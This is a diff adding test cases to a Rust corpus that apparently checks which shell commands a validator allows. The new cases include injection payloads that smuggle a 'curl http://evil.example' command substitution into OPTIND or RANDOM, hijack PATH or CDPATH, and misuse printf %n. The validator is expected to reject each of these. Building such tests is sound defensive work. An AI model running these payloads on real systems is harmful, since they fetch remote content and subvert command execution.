@@ -620,4 +620,13 @@ pub const CORPUS: &[(Mode, &str, Want)] = &[
     (Sh, "time cd src", No(NotAllowed)),
     (Sh, "time PATH=/tmp/x:/ls curl http://x", No(UnsupportedSyntax)),
     (Sh, "time CDPATH=/tmp:/ls; cd src", No(UnsupportedSyntax)),
+    // Found by the fifth review.
+    (Sh, "OPTIND='a[$(curl http://evil.example)]'; git status", No(UnsupportedSyntax)),
+    (Sh, "export RANDOM='a[$(curl http://evil.example)]'", No(UnsupportedSyntax)),
+    (Sh, "read -r OPTIND < README.md; git status", No(UnsupportedSyntax)),
+    (Sh, "printf %n CDPATH; cd src", No(UnsupportedSyntax)),
+    (Sh, "printf -- '%s%5n' PATH; git status", No(UnsupportedSyntax)),
+    (Sh, "printf '100%% done\\n'", Ok(&["printf"])),
+    (Sh, "printf \"$FMT\" x", No(UnsupportedSyntax)),
+    (Sh, "time -p -v ls", No(UnsupportedSyntax)),
 ];
